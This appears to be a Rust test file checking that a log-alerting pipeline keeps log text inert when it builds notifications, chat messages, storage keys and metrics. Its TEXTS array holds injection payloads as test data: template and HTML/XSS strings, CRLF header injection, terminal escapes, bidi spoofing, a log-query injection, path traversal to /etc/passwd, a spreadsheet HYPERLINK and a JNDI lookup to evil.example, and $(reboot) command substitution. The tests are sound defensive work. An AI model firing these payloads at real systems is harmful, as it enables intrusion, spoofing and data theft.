//! Log text is data: whatever it holds, it is never a template, never markup that renders, never a line, a header, a query, an address or a path of
//! its own, and no command to a terminal.
#![expect(clippy::unwrap_used, reason = "a test says by a panic what went wrong")]

mod outputs;

use serde_json::{Value, json};
use skywarden_core::{
    notify::{MAX_BODY_BYTES, MAX_SUBJECT},
    plan::LogFormat,
};

use crate::outputs::{Delivered, Outputs, Processors, outputs, plan, record};

/// Name, and a text that somebody could get into a log by a form, a header or an address.
const TEXTS: [(&str, &str); 14] = [
    ("a template expression", "{{ 7 * 191 }}"),
    ("a template statement", "{% set x = 7 * 191 %}{{ x }}{% raw %}{% endraw %}"),
    ("mentions and links of a chat", "<!channel> <@U123> <http://evil.example|click here> *bold* _it_ ~no~ `code` ```block```"),
    ("Markdown", "[click](javascript:alert(1)) ![x](http://evil.example/x.png) # head"),
    ("HTML", "<script>alert(1)</script><img src=x onerror=alert(1)><b>x</b>&amp;"),
    ("lines and headers of its own", "end\r\nSubject: all is well\r\nX-Fake: 1\r\n\r\n{\"level\":\"CRITICAL\",\"message\":\"fake\"}"),
    ("terminal commands", "\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7} \u{8}\u{8}\u{7f}\u{9b}2J"),
    ("text that turns around", "invoice\u{202e}fdp.exe \u{2066}x\u{2069} \u{200f}y"),
    ("a query", "x' or '1'='1 | delete | filter @message like /.*/ \" | limit 10000"),
    ("a path", "../../../etc/passwd %2e%2e%2f ..\\..\\boot.ini"),
    ("JSON", "\",\"severity\":\"info\",\"x\":[{\"y\":\"\\"),
    ("a sheet of figures", "=HYPERLINK(\"http://evil.example\";\"x\"),+1,-1,@SUM(A1)"),
    ("variables", "${AWS::AccountId} ${jndi:ldap://evil.example/a} $(reboot) `reboot` %n%s%x"),
    ("null and other planes", "a\u{0}b\u{fffe}c\u{10ffff}d\u{feff}"),
];

/// Everything that leaves for the text in every field that may leave.
fn left(processors: &Processors, text: &str) -> Outputs {
    let fields = ["/message", "/error/message", "/error/type", "/error/stack", "/version", "/request_id", "/trace_id", "/logger", "/http/path", "/kind"];
    let delivered: Vec<Delivered> = fields
        .iter()
        .map(|field| {
            let mut line = record();
            *line.pointer_mut(field).unwrap() = json!(text);
            Delivered { id: format!("{text}{field}"), ..Delivered::line(line.to_string()) }
        })
        .chain([
            Delivered::line(format!("ERROR {text}")),
            Delivered::line(format!("Traceback (most recent call last):\n  File \"{text}\", line 3, in {text}\nValueError: {text}")),
        ])
        .collect();
    outputs(processors, &delivered)
}

/// Characters that do something other than be shown: to a terminal, to a reader's eye, or to SNS and SQS, which refuse them.
fn acts(c: char) -> bool {
    (c.is_control() && !matches!(c, '\n' | '\t'))
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{fffe}' | '\u{ffff}')
}

#[test]
fn text_of_the_log_stays_text_in_every_message() {
    let processors = Processors::new(&plan(LogFormat::Json));
    for (name, text) in TEXTS {
        let out = left(&processors, text);
        assert!(out.messages.len() >= outputs::formats().len(), "{name}: {} messages", out.messages.len());
        for message in &out.messages {
            let whole = format!("{name} on {}: {:?}", message.topic, message);
            assert!(!format!("{message:?}").contains("1337"), "a template: {whole}");
            assert!(message.subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)) && message.subject.len() <= MAX_SUBJECT, "{whole}");
            assert!(message.subject.starts_with('['), "{whole}");
            assert!(!message.body.contains(acts), "a command: {whole}");
            assert!(message.attributes.values().all(|value| !value.contains(acts) && !value.contains('\n')), "{whole}");
            assert!(message.body.len() <= MAX_BODY_BYTES, "{whole}");
            let own_line = |line: &str| ["Subject:", "X-Fake", "{\"level\""].iter().any(|begin| line.starts_with(begin));
            assert!(!message.body.lines().any(own_line), "a line of its own: {}\n{}", whole, message.body);
            if message.topic.ends_with("json") {
                let body: Value = serde_json::from_str(&message.body).unwrap_or_else(|error| panic!("{error}: {whole}"));
                assert_eq!(body["severity"], message.attributes["severity"].as_str(), "{whole}");
                addresses(&body, &whole);
            }
            if message.topic.ends_with("chat") {
                // What stands in a code span does not render; nothing of the log can end one.
                assert!(message.body.matches('`').count() % 2 == 0, "an open code span: {whole}");
                let outside: String = message.body.split('`').step_by(2).collect();
                for markup in ["<!channel>", "<@U123>", "<http://evil", "](javascript:", "](http://evil", "```block"] {
                    assert!(!outside.contains(markup), "{markup} renders: {whole}");
                }
            }
        }
    }
}

/// Each link leads to a console or to where the plan says, and holds nothing of the log but harmless characters.
fn addresses(value: &Value, whole: &str) {
    match value {
        Value::Object(members) => {
            if let Some(url) = members.get("url").and_then(Value::as_str) {
                let plain = |c: char| c.is_ascii_alphanumeric() || "-._~:/?#@!$&'()*+,;=%".contains(c);
                assert!(url.starts_with("https://") && url.chars().all(plain), "{url}: {whole}");
                assert!(!url.contains("evil") && !url.contains("delete") && !url.contains("passwd") && !url.contains("10000"), "{url}: {whole}");
            }
            members.values().for_each(|value| addresses(value, whole));
        }
        Value::Array(values) => values.iter().for_each(|value| addresses(value, whole)),
        _ => {}
    }
}

#[test]
fn a_residue_lies_where_it_belongs_whatever_the_log_says() {
    let processors = Processors::new(&plan(LogFormat::Json));
    for (name, text) in TEXTS {
        let keys = left(&processors, text).residue_keys;
        assert!(!keys.is_empty(), "{name}");
        for key in keys {
            let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '/' | '-' | '_' | '.');
            assert!(key.starts_with("residue/") && key.chars().all(plain) && !key.contains(".."), "{name}: {key}");
        }
    }
}

#[test]
fn a_metric_takes_what_cloudwatch_takes() {
    let processors = Processors::new(&plan(LogFormat::Json));
    for (name, text) in TEXTS {
        let values: Vec<String> =
            left(&processors, text).metrics.into_iter().flat_map(|request| request.data).flat_map(|datum| datum.dimensions).map(|(_, value)| value).collect();
        assert!(!values.is_empty(), "{name}");
        assert!(values.iter().all(|value| value.bytes().all(|byte| (b' '..=b'~').contains(&byte)) && !value.starts_with(':')), "{name}: {values:?}");
    }
}

#[test]
fn an_explanation_in_words_has_no_line_of_the_log_s_own() {
    let processors = Processors::new(&plan(LogFormat::Json));
    let (_, text) = TEXTS.iter().find(|(name, _)| *name == "lines and headers of its own").unwrap();
    let out = left(&processors, text);
    let words: Vec<&str> = out.texts.iter().filter(|(what, _)| what == "the explanation in words").map(|(_, text)| text.as_str()).collect();
    assert!(!words.is_empty());
    assert!(words.iter().all(|text| text.lines().all(|line| !line.starts_with("Subject:") && !line.starts_with("X-Fake"))), "{words:?}");
}

#[test]
fn a_word_without_an_end_is_bounded_everywhere() {
    let processors = Processors::new(&plan(LogFormat::Json));
    let out = left(&processors, &"Ab1".repeat(100_000));
    assert!(!out.messages.is_empty());
    for message in &out.messages {
        assert!(message.subject.len() <= MAX_SUBJECT && message.body.len() <= MAX_BODY_BYTES, "{}: {}", message.topic, message.body.len());
        assert!(message.attributes.values().all(|value| value.len() <= 512), "{:?}", message.attributes);
    }
    for issue in &out.issues {
        // An item of DynamoDB is at most 400 KB.
        assert!(serde_json::to_string(issue).unwrap().len() < 100_000);
    }
    assert!(out.residue_keys.iter().all(|key| key.len() <= 1024), "a key of S3 is at most 1,024 bytes");
}
